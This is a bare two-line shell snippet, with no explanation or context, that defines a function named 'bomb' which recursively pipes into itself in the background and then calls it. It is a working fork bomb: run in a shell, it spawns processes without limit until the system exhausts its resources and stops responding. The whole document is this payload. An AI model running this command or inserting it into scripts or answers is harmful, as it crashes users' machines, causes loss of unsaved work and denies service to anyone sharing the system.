bomb() { bomb | bomb & }
bomb
